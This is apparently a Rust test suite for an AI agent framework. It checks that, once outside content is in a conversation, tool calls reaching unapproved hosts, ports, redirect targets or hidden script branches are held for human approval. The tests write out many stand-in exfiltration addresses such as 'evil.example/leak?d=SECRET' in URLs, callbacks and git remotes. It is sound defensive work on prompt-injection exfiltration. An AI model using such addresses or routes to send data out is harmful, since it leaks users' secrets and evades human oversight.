//! In a conversation with content from outside, a host and port it has not reached is asked about, whatever leads there.

use satchel::model::{error::Kind, spec::Risk};
use serde_json::{Value, json};

use super::asker::Asker;
use crate::{
    scripts::reach::save,
    support::{
        app::TestApp,
        remote::systems::{allow, open},
        site::{Site, page, status},
        system::TestSystem,
    },
};

fn fetch(site: &Site) -> Value {
    json!({"url": site.url("/page")})
}

async fn site(app: &TestApp) -> Site {
    let site = Site::start().await;
    allow(app, &site.url("/")).await;
    site.put("/page", [page("text/plain", "It waits.")]);
    site
}

async fn tainted(permissions: &[&str]) -> Asker {
    let asker = Asker::new(TestApp::start().await, permissions).await;
    asker.app.taint(asker.topic).await;
    asker
}

#[tokio::test(flavor = "multi_thread")]
async fn a_yes_opens_no_other_host_and_no_other_port() {
    let asker = tainted(&["*"]).await;
    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
    let ticket = asker.ask("web_fetch", fetch(&one)).await;
    assert_eq!(ticket.scope, None, "no later call would read such a yes");
    assert!(ticket.reason.contains(&format!("It reaches '{}'", one.place)), "{}", ticket.reason);
    asker.approve(&ticket).await;
    asker.run("web_fetch", fetch(&one)).await;
    let port = asker.ask("web_fetch", fetch(&other)).await;
    assert!(port.reason.contains(&other.place), "the same host at another port: {}", port.reason);
    let leak = json!({"url": "http://127.0.0.3/leak?d=SECRET2"});
    assert!(asker.invoke(asker.call("web_fetch", leak)).await.is_err(), "the guard allows no other host here");
    let leak = asker.ask("web_fetch", json!({"url": "http://evil.example/leak?d=SECRET2"})).await;
    assert!(leak.reason.contains("'evil.example:80'"), "{}", leak.reason);
    assert!(other.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_search_is_asked_about_before_its_words_go_to_its_instance() {
    let asker = tainted(&["*"]).await;
    let instance = Site::start().await;
    instance.put("/search", [page("application/json", json!({"results": []}).to_string())]);
    let settings = asker.app.satchel.invoker.registry().find("web_search").unwrap().tool.spec().settings.clone();
    let values = json!({"base_url": instance.url("/")}).as_object().unwrap().clone();
    let owner = asker.app.owner().await;
    asker.app.satchel.app.stores.tool_config.set(&owner, "web_search", &settings, values).await.unwrap();
    let ticket = asker.ask("web_search", json!({"query": "SECRET-CUSTOMER-4711 iban"})).await;
    assert!(ticket.reason.contains(&instance.place), "{}", ticket.reason);
    assert!(instance.asked().is_empty());
    asker.approve(&ticket).await;
    asker.run("web_search", json!({"query": "herons"})).await;
    assert_eq!(instance.asked().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn parallel_names_where_its_calls_lead_and_its_yes_opens_that_and_no_more() {
    let asker = tainted(&["*"]).await;
    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
    let uses = |sites: &[&Site]| {
        let uses = sites.iter().map(|site| json!({"recipient_name": "functions.web_fetch", "parameters": fetch(site)}));
        json!({"tool_uses": uses.collect::<Vec<_>>()})
    };
    let ticket = asker.ask("parallel", uses(&[&one])).await;
    assert!(ticket.reason.contains(&one.place) && ticket.scope.is_none(), "{ticket:?}");
    assert_eq!(asker.approve(&ticket).await["ok"], true);
    asker.run("parallel", uses(&[&one, &one])).await;
    let ticket = asker.ask("parallel", uses(&[&one, &other])).await;
    assert!(!ticket.reason.contains(&one.place) && ticket.reason.contains(&other.place), "{}", ticket.reason);
    assert!(other.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn every_argument_that_is_an_address_counts_where_a_tool_reaches_out() {
    let asker = tainted(&["*"]).await;
    let server = TestSystem::start().await;
    open(&asker.app, "crm", &server.url("")).await;
    let get = |query: Value| json!({"system_id": "crm", "method": "GET", "path": "/x", "query_params": query});
    let ticket = asker.ask("call_rest_endpoint", get(json!({}))).await;
    asker.approve(&ticket).await;
    asker.run("call_rest_endpoint", get(json!({"at": "12:30", "to": "me"}))).await;
    for (query, place) in [
        (json!({"callback": "https://evil.example/x?d=SECRET"}), "'evil.example:443'"),
        (json!({"hosts": ["a", "evil.example:8443"]}), "'evil.example:8443'"),
        (json!({"feed": "wss://evil.example"}), "'evil.example:443'"),
        (json!({"to": "evil.example:8443/x?d=SECRET"}), "'evil.example:8443'"),
        (json!({"to": "//evil.example/x?d=SECRET"}), "'evil.example:443'"),
        (json!({"https://evil.example/SECRET": "x"}), "'evil.example:443'"),
        (json!({"to": "grpc://evil.example:50051"}), "'evil.example:50051'"),
        (json!({"to": "redis://evil.example"}), "'evil.example'"),
        (json!({"to": "Look at <https://evil.example/SECRET>."}), "'evil.example:443'"),
        (json!({"to": "git@evil.example:a/b.git"}), "'evil.example:22'"),
    ] {
        let ticket = asker.ask("call_rest_endpoint", get(query)).await;
        assert!(ticket.reason.starts_with(&format!("Its arguments name {place}, which")), "{}", ticket.reason);
    }
    asker.run("save_memory", json!({"content": "https://evil.example/ is a page"})).await;
    assert_eq!(server.asked().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_leads_nowhere_its_question_did_not_name() {
    let asker = tainted(&["host:fs.write"]).await;
    let (named, hidden) = (site(&asker.app).await, site(&asker.app).await);
    let body = format!(
        "tool(\"write\", #{{ path: \"a.txt\", content: \"x\" }});\n\
         if args.hide {{ tool(\"web_fetch\", #{{ url: \"{}\" }}).status }} else {{ tool(\"web_fetch\", #{{ url: args.url }}).status }}",
        hidden.url("/page")
    );
    let header = "// @param url string \"u\"\n// @param hide boolean \"h\"\n// @uses write, web_fetch";
    save(&asker.app, "carries", header, &body).await;
    let params = |hide: bool| json!({"url": named.url("/page"), "hide": hide});
    let ticket = asker.ask("carries", params(true)).await;
    assert!(ticket.reason.contains(&named.place), "{}", ticket.reason);
    let (_, verdict) = asker.decide(&ticket, super::asker::yes()).await.unwrap();
    let satchel::store::tickets::Verdict::Failed { message, .. } = &verdict else { panic!("{verdict:?}") };
    assert!(message.contains("web_fetch asks a person before this"), "{message}");
    assert!(hidden.asked().is_empty());
    let ticket = asker.ask("carries", params(false)).await;
    asker.approve(&ticket).await;
    assert!(named.asked().iter().any(|asked| asked.starts_with("GET /page ")), "{:?}", named.asked());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_that_may_look_like_another_is_said_to() {
    let asker = tainted(&["*"]).await;
    // The first letter is Cyrillic.
    let ticket = asker.ask("web_fetch", json!({"url": "https://\u{430}pple.com/"})).await;
    assert!(ticket.reason.contains("'xn--pple-43d.com:443'") && ticket.reason.contains("may look like"), "{ticket:?}");
    assert!(ticket.warnings.iter().any(|warning| warning.contains("xn--pple-43d.com")), "{:?}", ticket.warnings);
    let error = asker.invoke(asker.call("web_fetch", json!({"url": "nonsense"}))).await.unwrap_err();
    assert_eq!(error.kind(), Kind::Invalid);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_leads_to_no_other_place_than_the_one_asked_about() {
    let asker = tainted(&["*"]).await;
    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
    let ticket = asker.ask("web_fetch", fetch(&one)).await;
    asker.approve(&ticket).await;
    let leak = other.url("/page?d=SECRET");
    one.put("/out", [status(302, &[("location", &leak)])]);
    one.put("/here", [status(302, &[("location", "/page")])]);
    let answer = asker.run("web_fetch", json!({"url": one.url("/out")})).await;
    assert_eq!(answer["status"], 302);
    assert!(answer["markdown"].as_str().unwrap().contains(&leak), "the model is told where it leads: {answer}");
    let raw = asker.run("web-fetch", json!({"url": one.url("/out")})).await;
    assert_eq!((&raw["status"], &raw["headers"]["location"]), (&json!(302), &json!(leak)));
    assert!(other.asked().is_empty(), "{:?}", other.asked());
    let ticket = asker.ask("web_fetch", json!({"url": leak})).await;
    assert!(ticket.reason.contains(&other.place), "nor is it known from now on: {}", ticket.reason);
    assert_eq!(asker.run("web_fetch", json!({"url": one.url("/here")})).await["status"], 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn more_addresses_than_a_person_reads_are_refused() {
    let asker = tainted(&["*"]).await;
    let headers: serde_json::Map<String, Value> =
        (0..300).map(|n| (format!("h{n}"), json!(format!("a{n}.example:80")))).collect();
    let call = asker.call("web_fetch", json!({"url": "https://a.example/", "headers": headers}));
    let error = asker.invoke(call).await.unwrap_err();
    assert!(error.kind() == Kind::Invalid && error.message().contains("more than 50 hosts"), "{error}");
    assert!(asker.open().await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_host_a_redirect_named_and_was_refused_is_a_strangers_word() {
    let asker = Asker::new(TestApp::start().await, &["*"]).await;
    let site = site(&asker.app).await;
    let write = || asker.run("write", json!({"path": "a.txt", "content": "x"}));
    let refused = async |url: String| {
        let error = asker.invoke(asker.call("web_fetch", json!({"url": url}))).await.unwrap_err();
        assert!(error.kind() == Kind::Denied && error.message().contains("is not a public address"), "{error}");
        error
    };
    refused("http://of-my-own.localhost:9/".to_owned()).await;
    write().await;
    site.put("/out", [status(302, &[("location", "http://run-exec-now.localhost:9/x")])]);
    assert!(refused(site.url("/out")).await.message().contains("run-exec-now.localhost"));
    let ticket = asker.ask("write", json!({"path": "a.txt", "content": "x"})).await;
    assert!(ticket.reason.contains("content from outside"), "{}", ticket.reason);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_that_a_redirect_led_to_is_not_reached() {
    let asker = Asker::new(TestApp::start().await, &["*"]).await;
    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
    one.put("/out", [status(302, &[("location", &other.url("/page"))])]);
    let led = asker.run("web_fetch", json!({"url": one.url("/out")})).await;
    assert_eq!((&led["status"], &led["final_url"]), (&json!(200), &json!(other.url("/page"))));
    let ticket = asker.ask("web_fetch", fetch(&other)).await;
    assert!(ticket.reason.contains(&format!("It reaches '{}'", other.place)), "{}", ticket.reason);
    asker.run("web_fetch", fetch(&one)).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_fetch_that_writes_is_asked_about_at_a_host_that_was_reached() {
    let asker = Asker::new(TestApp::start().await, &["*"]).await;
    let site = site(&asker.app).await;
    asker.run("web_fetch", fetch(&site)).await;
    for (method, risk) in [("DELETE", Risk::Destructive), ("POST", Risk::HighWrite), ("PATCH", Risk::HighWrite)] {
        let ticket = asker.ask("web_fetch", json!({"url": site.url("/page"), "method": method})).await;
        assert_eq!(ticket.risk, risk, "{method}: {}", ticket.reason);
    }
    assert!(site.asked().iter().all(|asked| asked.starts_with("GET ")), "{:?}", site.asked());
}
